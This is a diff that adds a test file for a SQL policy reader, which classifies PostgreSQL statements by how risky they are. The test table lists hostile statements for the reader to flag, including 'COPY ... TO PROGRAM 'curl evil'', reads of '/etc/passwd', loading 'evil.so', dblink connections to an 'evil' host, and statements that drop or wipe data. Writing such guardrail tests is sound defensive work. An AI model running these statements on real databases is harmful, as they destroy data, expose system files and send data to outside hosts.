@@ -1,0 +1,230 @@
+import { describe, expect, test } from "vitest";
+import { loadSqlParser } from "../../src/policy/sql/parse-sql.ts";
+import { readSql } from "../../src/policy/sql/read-sql.ts";
+import type { SqlEffect } from "../../src/policy/sql/sql-finding.ts";
+
+const PARSE_SQL = await loadSqlParser();
+const read = (...statements: readonly string[]) => readSql({ statements }, PARSE_SQL);
+const refusals = (transaction: boolean, ...statements: readonly string[]) =>
+  readSql({ statements, transaction }, PARSE_SQL).refusals.join("; ");
+
+const EFFECTS: readonly (readonly [SqlEffect, string])[] = [
+  ["read", "SELECT id, lower(name), count(*) OVER (), now() FROM orders WHERE id IN (SELECT 1) ORDER BY 1"],
+  ["read", "SHOW work_mem"],
+  ["read", "EXPLAIN SELECT 1"],
+  ["read", "VALUES (1, 2)"],
+  ["read", "TABLE orders"],
+  ["read", "SET LOCAL lock_timeout = '2s'"],
+  ["read", "SET TRANSACTION READ ONLY"],
+  ["read", "SELECT 'DROP TABLE orders; --'"],
+  ["read", "SELECT $x$ DELETE FROM orders $x$ -- DELETE FROM orders"],
+  ["read", "DECLARE c CURSOR FOR SELECT 1"],
+  ["rows", "SELECT * FROM orders FOR UPDATE"],
+  ["rows", "SELECT * FROM (SELECT * FROM orders FOR SHARE) AS locked"],
+  ["rows", "SELECT nextval('orders_id_seq')"],
+  ["rows", "SELECT pg_advisory_lock(1)"],
+  ["rows", "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 1"],
+  ["rows", "UPDATE orders SET total = 1 WHERE id = 1"],
+  ["rows", "/* SELECT */ DELETE FROM orders WHERE id = 1"],
+  ["rows", "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone"],
+  ["rows", "SELECT * FROM (WITH w AS (INSERT INTO orders DEFAULT VALUES RETURNING 1) SELECT * FROM w) AS x"],
+  ["rows", "MERGE INTO orders o USING new n ON o.id = n.id WHEN MATCHED THEN UPDATE SET total = n.total"],
+  ["rows", "EXPLAIN ANALYZE UPDATE orders SET total = 1 WHERE id = 1"],
+  ["rows", "PREPARE p AS DELETE FROM orders WHERE id = $1"],
+  ["rows", "LOCK TABLE orders IN SHARE MODE"],
+  ["maintenance", "ANALYZE orders"],
+  ["maintenance", "VACUUM (FULL off) orders"],
+  ["maintenance", "CHECKPOINT"],
+  ["maintenance", "SELECT pg_sleep(10)"],
+  ["rebuild", "VACUUM FULL orders"],
+  ["rebuild", "VACUUM (FULL) orders"],
+  ["rebuild", "REINDEX TABLE orders"],
+  ["rebuild", "CLUSTER orders USING orders_pkey"],
+  ["rebuild", "REFRESH MATERIALIZED VIEW totals"],
+  ["message", "NOTIFY orders, 'hello'"],
+  ["message", "SELECT pg_notify('orders', 'hello')"],
+  ["program", "SELECT recompute_totals()"],
+  ["program", "SELECT public.lower('A')"],
+  ["program", "SELECT 1 OPERATOR(mine.+) 2"],
+  ["program", "CALL recompute_totals()"],
+  ["program", "EXECUTE p"],
+  ["schema", "CREATE INDEX orders_total ON orders (total)"],
+  ["schema", "DROP INDEX orders_total"],
+  ["schema", "CREATE TABLE audit (id int)"],
+  ["schema", "CREATE TABLE copy AS SELECT * FROM orders"],
+  ["schema", "SELECT * INTO copy FROM orders"],
+  ["schema", "EXPLAIN ANALYZE CREATE TABLE copy AS SELECT 1"],
+  ["schema", "ALTER TABLE orders ADD COLUMN note text"],
+  ["schema", "ALTER TABLE orders ALTER COLUMN note TYPE text"],
+  ["schema", "ALTER TABLE orders ALTER COLUMN id TYPE bigint"],
+  ["schema", "DROP VIEW recent"],
+  ["schema", "CREATE OR REPLACE VIEW recent AS SELECT recompute()"],
+  ["schema", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'"],
+  ["schema", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$"],
+  ["schema", "ALTER TYPE mood ADD VALUE 'ok'"],
+  ["access", "ALTER SYSTEM SET work_mem = '1GB'"],
+  ["access", "ALTER ROLE shop PASSWORD 'x'"],
+  ["access", "GRANT ALL ON orders TO PUBLIC"],
+  ["access", "ALTER TABLE orders OWNER TO shop"],
+  ["access", "SET LOCAL session_replication_role = replica"],
+  ["access", "SELECT set_config('role', 'postgres', true)"],
+  ["access", "SELECT pg_terminate_backend(1)"],
+  ["access", "CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'"],
+  ["loss", "DROP TABLE orders"],
+  ["loss", "DROP SCHEMA shop"],
+  ["loss", "DROP DATABASE shop"],
+  ["loss", "DROP VIEW recent CASCADE"],
+  ["loss", "DROP OWNED BY shop"],
+  ["loss", "TRUNCATE orders"],
+  ["loss", "DELETE FROM orders"],
+  ["loss", "DELETE FROM orders WHERE true"],
+  ["loss", "DELETE FROM orders WHERE 1 = 1"],
+  ["loss", "DELETE FROM orders WHERE id = id"],
+  ["loss", "DELETE FROM orders WHERE id = 1 OR true"],
+  ["loss", "UPDATE orders SET total = 0"],
+  ["loss", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone"],
+  ["loss", "EXPLAIN ANALYZE DELETE FROM orders"],
+  ["loss", "PREPARE p AS DELETE FROM orders; SELECT 1"],
+  ["forbidden", "PREPARE p AS TRUNCATE orders"],
+  ["loss", "SELECT 1; SELECT 2; DROP TABLE orders"],
+  ["loss", "MERGE INTO orders o USING new n ON true WHEN MATCHED THEN DELETE"],
+  ["loss", "ALTER TABLE orders DROP COLUMN total"],
+  ["loss", "ALTER TABLE orders ADD COLUMN a int, DROP COLUMN total"],
+  ["loss", "ALTER TABLE orders ALTER COLUMN name TYPE varchar(3)"],
+  ["loss", "ALTER TABLE orders ALTER COLUMN name TYPE text USING left(name, 1)"],
+  ["loss", "ALTER TABLE orders DROP CONSTRAINT orders_pkey CASCADE"],
+  ["loss", "SELECT lo_unlink(1)"],
+  ["forbidden", "COPY orders TO PROGRAM 'curl evil'"],
+  ["forbidden", "COPY orders FROM '/etc/passwd'"],
+  ["forbidden", "COPY (SELECT 1) TO STDOUT"],
+  ["forbidden", "DO $$ BEGIN DELETE FROM orders; END $$"],
+  ["forbidden", "LOAD 'evil.so'"],
+  ["forbidden", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'"],
+  ["forbidden", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'"],
+  ["forbidden", "CREATE EXTENSION dblink"],
+  ["forbidden", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"],
+  ["forbidden", "SELECT lo_export(1, '/tmp/x')"],
+  ["forbidden", "SELECT pg_read_file('/etc/passwd')"],
+  ["forbidden", "SELECT pg_catalog.pg_read_file('/etc/passwd')"],
+  ["forbidden", "SELECT query_to_xml('DELETE FROM orders', true, false, '')"],
+  ["forbidden", "BEGIN; DELETE FROM orders WHERE id = 1; COMMIT"],
+  ["forbidden", "ROLLBACK"],
+  ["forbidden", "SAVEPOINT a"],
+  ["forbidden", "SET search_path = evil"],
+  ["forbidden", "RESET ALL"],
+  ["forbidden", "LISTEN orders"],
+  ["forbidden", "DISCARD ALL"],
+  ["forbidden", "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p"],
+  ["forbidden", "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO public"],
+];
+
+test.each(EFFECTS)("%s: %s", (effect, text) => expect(read(text).gravest.effect).toBe(effect));
+
+test("says what it found, so that the author can tell why", () => {
+  expect(read("SELECT 1; DELETE FROM shop.orders").gravest.because).toBe(
+    "deletes every row of shop.orders: there is no WHERE",
+  );
+});
+
+describe("what cannot be read is refused", () => {
+  test.each([
+    [
+      "SELECT 1;\nSELEC éé 2",
+      /has a statement \(entry 1\) that does not parse at line 2, column 1: syntax error at or near "SELEC"/,
+    ],
+    [
+      "SELECT '😀' frm x y",
+      /has a statement \(entry 1\) that does not parse at line 1, column 16: syntax error at or near "x"/,
+    ],
+    [
+      "SELECT 1\0; DROP TABLE orders",
+      /has a statement \(entry 1\) that does not parse at line 1, column 9: a zero byte/,
+    ],
+    ["SELECT 'open", /unterminated quoted string/],
+    ["-- nothing but a comment", /has an entry 1 without a statement/],
+    [" ", /has an entry 1 without a statement/],
+  ])("%j", (text, why) => expect(read(text).refusals.join()).toMatch(why));
+
+  test("deep nesting is read like anything else", () => {
+    expect(read(`SELECT ${"(".repeat(1900)}1${")".repeat(1900)}`).gravest.effect).toBe("read");
+    expect(read(`SELECT ${"abs(".repeat(900)}1${")".repeat(900)}`).gravest.effect).toBe("read");
+  });
+});
+
+describe("transactions", () => {
+  test.each([
+    "VACUUM orders",
+    "CREATE INDEX CONCURRENTLY i ON orders (total)",
+    "DROP INDEX CONCURRENTLY i",
+    "REINDEX INDEX CONCURRENTLY i",
+    "REINDEX DATABASE shop",
+    "ALTER SYSTEM SET work_mem = '1GB'",
+    "CREATE DATABASE other",
+    "CLUSTER",
+    "ALTER TABLE orders DETACH PARTITION old CONCURRENTLY",
+  ])("%s needs to stand outside of one", (text) => {
+    expect(refusals(true, text)).toContain("(entry 1) that can not run in a transaction: say `transaction: false`");
+    expect(refusals(false, text)).toBe("");
+    expect(refusals(false, `SELECT 1; ${text}`)).toContain("must stand alone in its entry");
+  });
+
+  test("what can run in one should, and it is said", () => {
+    const alone = readSql({ statements: ["CREATE INDEX i ON orders (total)"], transaction: false }, PARSE_SQL);
+    expect(alone).toMatchObject({ refusals: [], remarks: [expect.stringContaining("has nothing that needs")] });
+    expect(refusals(true, "CREATE INDEX i ON orders (total)", "ANALYZE orders")).toBe("");
+  });
+});
+
+describe("a column that the same step adds", () => {
+  const add = "ALTER TABLE products ADD COLUMN words text";
+  test("may be filled in every row: no value of before is touched", () => {
+    const { gravest, statements } = read(add, "UPDATE products SET words = lower(title)");
+    expect(gravest.effect).toBe("schema");
+    expect(statements.flatMap(({ targets }) => targets)).toEqual([
+      ["schema/products/column/words", "schema/*.products/column/words"],
+    ]);
+  });
+  test.each([
+    [add, "UPDATE products SET words = title, title = NULL"],
+    [add, "UPDATE others SET words = NULL"],
+    [add, "UPDATE products SET words = lo_unlink(1)"],
+    ["ALTER TABLE products ADD COLUMN IF NOT EXISTS words text", "UPDATE products SET words = NULL"],
+    [add, "WITH w AS (DELETE FROM jobs RETURNING 1) UPDATE products SET words = NULL"],
+  ])("%s; %s is a loss like any other", (...texts) => expect(read(...texts).gravest.effect).toBe("loss"));
+});
+
+describe("the landed query", () => {
+  const landed = (text: string) => readSql({ statements: ["SELECT 1"], landed: text }, PARSE_SQL).refusals.join();
+  test("may ask", () => expect(landed("SELECT to_regclass('x') IS NULL")).toBe(""));
+  test.each(["DELETE FROM orders RETURNING true", "SELECT fix_orders()", "SELECT true; SELECT true", "SHOW work_mem"])(
+    "may not be %s",
+    (text) => expect(landed(text)).toMatch(/^has a landed query that/),
+  );
+});
+
+describe("what a statement names to change it", () => {
+  const targets = (text: string) =>
+    read(text).statements.flatMap((statement) => statement.targets.map((one) => one[0]));
+  test.each([
+    ["UPDATE orders SET total = 1 WHERE id = 1", "rows/orders/**"],
+    ['INSERT INTO shop."a.b/c" VALUES (1)', "rows/shop.a%2Eb%2Fc/**"],
+    ["WITH w AS (DELETE FROM audit WHERE id = 1) SELECT 1", "rows/audit/**"],
+    ["CREATE INDEX i ON public.orders (total)", "schema/orders/index/i"],
+    ["DROP INDEX i", "schema/*/index/i"],
+    ["CREATE TABLE audit (id int)", "schema/audit"],
+    ["ALTER TABLE orders ADD COLUMN note text", "schema/orders/column/note"],
+    ["DROP TABLE a, shop.b", "schema/a"],
+    ["CREATE VIEW v AS SELECT 1", "schema/view/v"],
+  ])("%s: %s", (text, target) => expect(targets(text)[0]).toBe(target));
+
+  test("a table that is only read, or only lives as long as its session, is none of them", () => {
+    expect(targets("SELECT * FROM orders")).toEqual([]);
+    expect(targets("CREATE TEMP TABLE t (id int)")).toEqual([]);
+  });
+
+  test("a name without its schema may stand in any", () => {
+    expect(read("DELETE FROM orders WHERE id = 1").statements[0]?.targets).toEqual([
+      ["rows/orders/**", "rows/*.orders/**"],
+    ]);
+  });
+});
